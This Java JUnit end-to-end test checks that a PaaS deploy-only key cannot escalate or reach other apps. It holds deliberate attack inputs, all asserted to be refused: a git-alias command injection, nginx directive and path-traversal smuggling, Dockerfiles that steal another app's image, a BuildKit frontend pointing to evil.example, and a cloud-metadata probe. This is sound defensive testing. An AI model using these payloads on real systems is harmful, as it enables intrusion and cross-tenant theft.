package dev.pocketpaas.cli.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pocketpaas.cli.e2e.Shell.Seen;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HexFormat;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.ExtendWith;

/** What docs/security.md says of a key that may only deploy, tried with such a key. */
@ExtendWith(TestDroplet.Shared.class)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class DeployKeyIT {
    private static final String MARKER = "/var/tmp/marker-deploy-key";

    /** Says what it can reach, from wherever it runs. */
    private static final String LOOK = """
            use strict; use warnings; use IO::Socket::INET;
            $| = 1;
            my $met = IO::Socket::INET->new(PeerAddr => '169.254.169.254', PeerPort => 80, Timeout => 2) ? 'reached' : 'closed';
            my $other = IO::Socket::INET->new(PeerAddr => 'OTHER', PeerPort => 5000, Timeout => 2) ? 'reached' : 'closed';
            open my $routes, '<', '/proc/net/route' or die; my ($gateway) = map { /^\\S+\\s+00000000\\s+(\\S{8})/ } <$routes>;
            my $host = join '.', reverse map { hex } unpack '(A2)4', $gateway;
            my $nginx = IO::Socket::INET->new(PeerAddr => $host, PeerPort => 80, Timeout => 2) ? 'reached' : 'closed';
            my $pids = 0;
            for my $file (glob '/sys/fs/cgroup/pids.max /sys/fs/cgroup/pids/pids.max') {
                open my $in, '<', $file or next;
                $pids = $1 if <$in> =~ /(\\d+)/;
            }
            open my $status, '<', '/proc/self/status' or die; my %has = map { /^(\\w+):\\s*(\\S+)/ ? ($1 => $2) : () } <$status>;
            print "metadata $met, bounding $has{CapBnd}, nnp $has{NoNewPrivs}\\n";
            print "another app $other, the host's nginx $nginx, seccomp $has{Seccomp}, uid $<, pids $pids\\n";
            """;

    private static TestApp app;
    private static TestApp other;
    private static Laptop ci;

    @BeforeAll
    static void aKey(TestDroplet droplet) throws Exception {
        other = TestApp.create(droplet, "dk-other");
        other.write("Dockerfile", """
                FROM pocketpaas/stack:24
                USER root
                RUN --mount=type=cache,target=/cache echo canary-cache >/cache/mark
                COPY app.pl /srv/app.pl
                CMD ["perl", "/srv/app.pl"]
                """);
        other.write("Procfile", "");
        other.commit("with a Dockerfile");
        other.must("deploy");
        app = TestApp.create(droplet, "dk");
        app.must("deploy");
        String address = droplet.inside(
                        "docker inspect --format '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}'"
                                + " $(docker ps -q --filter label=pocketpaas.app=dk-other)")
                .out()
                .strip();
        assertThat(droplet.inside("timeout 2 bash -c '</dev/tcp/" + address + "/5000'")
                        .exit())
                .isZero();
        app.write("look.pl", LOOK.replace("OTHER", address));
        // With buildpacks nobody is root.
        assertThat(app.must("run", "id", "-u").out()).isEqualTo("1000\n");
        app.write("Procfile", "");
        Seen generated = app.must("keys", "add", "dk-ci", "--app", "dk", "--generate");
        Path key = app.laptop().home().resolve("dk-key");
        Files.writeString(key, generated.out().substring(generated.out().indexOf("-----BEGIN")));
        app.laptop().must(app.laptop().home(), "chmod", "600", key.toString());
        ci = droplet.stranger("dk-ci")
                .with("POCKETPAAS_SSH_KEY", key.toString())
                .with("POCKETPAAS_HOST", "127.0.0.1:" + droplet.sshPort());
        droplet.inside("ip address add 169.254.169.254/32 dev lo; rm -f " + MARKER);
    }

    @AfterAll
    static void clean(TestDroplet droplet) {
        droplet.inside("ip address del 169.254.169.254/32 dev lo; rm -f /var/lib/pocketpaas/host/metadata " + MARKER);
        app.manifest();
        app.must("keys", "remove", "dk-ci");
        app.destroy();
        other.destroy();
    }

    @Test
    @Order(1)
    void buildArgumentsAreBuildArgumentsWhateverTheirNames(TestDroplet droplet) {
        String command = "!id >" + MARKER + "; echo owned #";
        List<String> names = List.of(
                "CLIENT",
                "WORK",
                "OUT",
                "CACHE",
                "SETTINGS",
                "APP",
                "PP_ROOT",
                "PP_LIB",
                "BUILD_SECONDS",
                "REPLY",
                "PATH",
                "HOME",
                "IFS",
                "PS4",
                "SHELLOPTS",
                "BASH_ENV",
                "ENV",
                "LD_PRELOAD",
                "PYTHONPATH",
                "UID",
                "DOCKER_HOST",
                "DOCKER_CONFIG",
                "BUILDX_CONFIG",
                "GIT_SSH_COMMAND",
                "SSH_ASKPASS",
                "HTTP_PROXY",
                "http_proxy",
                "XDG_CONFIG_HOME",
                "GODEBUG",
                "SSL_CERT_FILE",
                "TMPDIR");
        StringBuilder manifest = new StringBuilder("build:\n  args:\n");
        StringBuilder dockerfile = new StringBuilder("FROM pocketpaas/stack:24\nUSER root\n");
        // As variables of a step PATH and the like would be the step's own: they are looked at where they are text.
        dockerfile.append("ARG CLIENT\nARG GIT_CONFIG_COUNT\nARG GIT_CONFIG_KEY_0\nARG GIT_CONFIG_VALUE_0\n");
        manifest.append("    GIT_CONFIG_COUNT: \"1\"\n    GIT_CONFIG_KEY_0: alias.build\n    GIT_CONFIG_VALUE_0: '")
                .append(command)
                .append("'\n");
        for (String name : names) {
            manifest.append("    ").append(name).append(": ").append(name.equals("CLIENT") ? "git" : "canary-" + name);
            manifest.append('\n');
            if (!name.equals("CLIENT")) {
                dockerfile
                        .append("ARG ")
                        .append(name)
                        .append("\nLABEL seen.")
                        .append(name)
                        .append("=\"${")
                        .append(name);
                dockerfile.append("}\"\n");
            }
        }
        dockerfile.append("ENV PATH=/usr/bin:/bin LD_PRELOAD= BASH_ENV= ENV=\n");
        dockerfile.append("RUN echo \"$CLIENT $GIT_CONFIG_COUNT $GIT_CONFIG_KEY_0\"; perl -e 'sleep 4'\n");
        dockerfile.append("COPY app.pl /srv/app.pl\nCMD [\"/usr/bin/perl\", \"/srv/app.pl\"]\n");
        app.write("Dockerfile", dockerfile.toString());
        app.manifest(manifest.toString());
        app.commit("arguments");
        // Whoever has an account on the host, meanwhile.
        droplet.inside("(for i in $(seq 300); do cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'; sleep 0.1; done"
                + " | grep --line-buffered -ao 'canary-[A-Z][A-Z_]*' >/var/tmp/dk-seen; true) >/dev/null 2>&1 & "
                + "echo $! >/var/tmp/dk-pid");

        Seen seen = deploy();

        droplet.inside("bash -c 'sleep 1; true' canary-CONTROL; pkill -P \"$(cat /var/tmp/dk-pid)\"; true");
        assertThat(seen.exit()).as(seen.toString()).isZero();
        assertThat(seen.all()).contains("git 1 alias.build").doesNotContain("owned");
        assertThat(droplet.inside("ls " + MARKER + " 2>&1").out()).contains("No such file");
        assertThat(droplet.inside("sort -u /var/tmp/dk-seen; rm /var/tmp/dk-seen /var/tmp/dk-pid")
                        .out())
                .isEqualTo("canary-CONTROL\n");
        String labels = droplet.inside("docker image inspect --format '{{json .Config.Labels}}' "
                        + "$(docker ps -q --filter label=pocketpaas.app=dk | xargs docker inspect --format {{.Image}})")
                .out();
        for (String name : names) {
            if (!name.equals("CLIENT")) {
                assertThat(labels).contains("\"seen." + name + "\":\"canary-" + name + "\"");
            }
        }
        assertThat(app.get("/").body()).isEqualTo("one");
        app.manifest("build: { args: { BUILDKIT_CACHE_MOUNT_NS: x } }");
        app.commit("the builder's own");
        assertThat(deploy().exit()).isEqualTo(2);
    }

    @Test
    @Order(2)
    void anotherAppsImagesAndCachesAreOutOfReach(TestDroplet droplet) {
        String[] image = droplet.inside("docker image ls --no-trunc --filter label=pocketpaas.app=dk-other "
                        + "--format '{{.Repository}}:{{.Tag}} {{.ID}}'")
                .out()
                .strip()
                .split(" ");
        String id = image[1];
        app.manifest();
        for (String dockerfile : List.of(
                "FROM " + image[0],
                "FROM docker.io/library/" + image[0],
                "FROM " + id,
                "FROM " + id.substring(7, 19),
                "ARG A=dk-other\nFROM pocketpaas-app-${A}:" + image[0].split(":")[1],
                "FROM pocketpaas-app-dk-other",
                "FROM pocketpaas/stack:24\nCOPY --from=" + image[0] + " /srv /stolen",
                "FROM pocketpaas/stack:24\nRUN --mount=type=bind,from=" + image[0] + ",target=/x cp -r /x/srv /stolen",
                "# syntax=evil.example/frontend\nFROM pocketpaas/stack:24")) {
            app.write("Dockerfile", dockerfile + "\nCMD [\"true\"]\n");
            app.commit("theft");

            Seen seen = deploy();

            assertThat(seen.exit()).as(dockerfile + seen).isEqualTo(5);
            assertThat(seen.all()).as(dockerfile).containsAnyOf("part of another app", "what other apps have built");
        }
        app.manifest("build: { image: '" + image[0] + "' }");
        app.commit("as an image");
        assertThat(deploy().all()).contains("part of another app");

        app.manifest();
        app.write("Dockerfile", """
                FROM pocketpaas/stack:24
                USER root
                ARG BUILDKIT_CACHE_MOUNT_NS=
                RUN --mount=type=cache,target=/cache echo "sees: $(cat /cache/mark 2>/dev/null)."; echo mine >/cache/mine
                COPY look.pl app.pl /srv/
                RUN perl /srv/look.pl
                CMD ["perl", "/srv/app.pl"]
                """);
        app.manifest("release: perl /srv/look.pl", "capabilities: [NET_RAW]");
        app.commit("the cache");
        Seen built = deploy();
        assertThat(built.exit()).as(built.toString()).isZero();
        assertThat(built.all()).contains("sees: .");
        // The build, and then the release command in a container of the app.
        assertThat(built.all()).contains("metadata closed, bounding 00000000a80425fb");
        assertThat(built.all()).contains("metadata closed, bounding 00000000000024fb, nnp 1");
        assertThat(built.all())
                .contains("another app closed, the host's nginx reached, seccomp 2, uid 0, pids 4096")
                .doesNotContain("another app reached");
        assertThat(droplet.inside("docker inspect --format '{{.HostConfig.Privileged}} {{.HostConfig.NetworkMode}}"
                                + " {{.HostConfig.PidMode}} {{.HostConfig.Binds}} {{.HostConfig.Devices}}'"
                                + " $(docker ps -q --filter label=pocketpaas.app=dk)")
                        .out())
                .matches("(false pocketpaas-dk +\\[?.*\\]? *\\[\\]\n)+")
                .doesNotContain("docker.sock");
    }

    @Test
    @Order(3)
    void anAdminOpensTheMetadataAddressAndNobodyGetsMoreRights(TestDroplet droplet) {
        droplet.inside("printf open >/var/lib/pocketpaas/host/metadata; /usr/local/lib/pocketpaas/current/metadata");
        app.manifest("release: perl /srv/look.pl");
        app.commit("with fewer rights");
        assertThat(deploy().all()).contains("metadata reached, bounding 00000000000004fb, nnp 1");
        droplet.inside("iptables -t raw -F; printf closed >/var/lib/pocketpaas/host/metadata;"
                + " systemctl start pocketpaas-notices.service");
        app.message("again");
        app.commit("again");
        assertThat(deploy().all()).contains("metadata closed");

        app.manifest("capabilities: [SYS_ADMIN]");
        app.commit("more rights");
        Seen refused = deploy();
        assertThat(refused.exit()).isEqualTo(2);
        assertThat(refused.err()).contains("\"SYS_ADMIN\" is not a capability that an app can have");
    }

    /** What the program on a laptop would refuse, from a client that does not: one request a line, by stock ssh. */
    @Test
    @Order(4)
    void whatAClientOfOnesOwnAsksForIsRefusedByTheHost(TestDroplet droplet) {
        String before = app.get("/").body();
        // The newest one never came to the host, which looks for the commit first.
        String commit = app.git("rev-parse", "HEAD~1").out().strip();
        for (String setting : List.of(
                "capabilities\\0SYS_ADMIN",
                "volumes\\0/etc\\t/data",
                "volumes\\0../../dk-other\\t/data",
                "volumes\\0data\\t../etc",
                "domains\\0dk-other.localhost",
                "domains\\0a.example.com; include /etc/passwd",
                "http/redirects\\0a.example.com\\tb.example.com; }",
                "http/timeout\\060s; proxy_pass http://127.0.0.1",
                "env/A B\\0x",
                "env/../../operator/env/A\\0x",
                "build/args/BUILDKIT_SYNTAX\\0evil.example/frontend",
                "processes/web;id/command\\0true",
                "limits/pids\\0-1",
                "image\\0-x")) {
            Seen seen = raw(droplet, "settings/" + setting + "\\0.\\0end\\0", "deploy dk " + commit);
            assertThat(seen.exit()).as(setting + seen).isIn(2, 4);
            assertThat(seen.all()).as(setting).contains("+fail").doesNotContain("no-commit", "uid=", "root:x:");
        }
        // Of another app's names it learns whose they are, and no more.
        assertThat(raw(droplet, "settings/domains\\0dk-other.localhost\\0.\\0end\\0", "deploy dk " + commit)
                        .out())
                .contains("dk-other.localhost belongs to the app dk-other");
        for (String verb : List.of(
                "env dk",
                "scale dk",
                "run dk",
                "destroy dk",
                "nginx dk set",
                "ssl dk",
                "domains dk",
                "keys list",
                "prune",
                "refresh",
                "deploy dk-other " + commit,
                "show dk-other releases",
                "logs dk-other",
                "logs dk lines=5 --output=cat",
                "show dk ../../keys")) {
            Seen seen = raw(droplet, ".\\0end\\0", verb);
            assertThat(seen.exit()).as(verb + seen).isIn(2, 4);
        }
        assertThat(app.get("/").body()).isEqualTo(before);
        assertThat(droplet.inside("ls " + MARKER + " 2>&1").out()).contains("No such file");
    }

    /** What it may: a secret that the host does not have yet, the names of variables, and a push by stock git. */
    @Test
    @Order(5)
    void aSecretThatTheHostLacksAndAPush(TestDroplet droplet) {
        app.laptop().must(app.directory(), "rm", "-f", "Dockerfile");
        app.write("Procfile", "web: perl app.pl\n");
        app.manifest("secrets: [DK_SECRET]");
        app.commit("with a secret");
        Seen first = ci.with("DK_SECRET", "first-canary").pocketpaas(app.directory(), "deploy");
        assertThat(first.exit()).as(first.toString()).isZero();
        // What it runs there sees it, by design; and what is there already stays.
        assertThat(app.get("/env/DK_SECRET").body()).isEqualTo(hex("first-canary"));
        Seen second = ci.with("DK_SECRET", "second-canary").pocketpaas(app.directory(), "deploy", "--force");
        assertThat(second.exit()).as(second.toString()).isZero();
        assertThat(app.get("/env/DK_SECRET").body()).isEqualTo(hex("first-canary"));
        Seen names = ci.pocketpaas(app.directory(), "env");
        assertThat(names.out()).contains("DK_SECRET").doesNotContain("canary");
        assertThat(ci.pocketpaas(app.directory(), "domains").out()).contains("dk.localhost");

        app.message("pushed");
        app.commit("pushed");
        String url = "ssh://pocketpaas@127.0.0.1:" + droplet.sshPort() + "/";
        Laptop git = ci.with("GIT_SSH_COMMAND", String.join(" ", ssh()));
        Seen pushed = git.run(app.directory(), "git", "push", url + "dk", "main");
        assertThat(pushed.exit()).as(pushed.toString()).isZero();
        assertThat(app.get("/").body()).isEqualTo("pushed");
        for (String other : List.of("dk-other", "dk-new", "../dk-other/repo.git")) {
            Seen refused = git.run(app.directory(), "git", "push", url + other, "main");
            assertThat(refused.exit()).as(refused.toString()).isNotZero();
        }
    }

    private static String hex(String text) {
        return HexFormat.of().formatHex(text.getBytes(StandardCharsets.UTF_8));
    }

    private static List<String> ssh() {
        return List.of(
                "ssh",
                "-i",
                ci.environment().get("POCKETPAAS_SSH_KEY"),
                "-o",
                "IdentitiesOnly=yes",
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
                "-o",
                "LogLevel=ERROR",
                "-o",
                "BatchMode=yes");
    }

    private static Seen raw(TestDroplet droplet, String tree, String verb) {
        String command = "printf '" + tree + "' | timeout 60 " + String.join(" ", ssh()) + " -p " + droplet.sshPort()
                + " pocketpaas@127.0.0.1 \"$0\"";
        return ci.run(app.directory(), "bash", "-c", command, "pocketpaas/1 " + verb);
    }

    private static Seen deploy() {
        return ci.pocketpaas(app.directory(), "deploy", "--accept-new-host-key");
    }
}
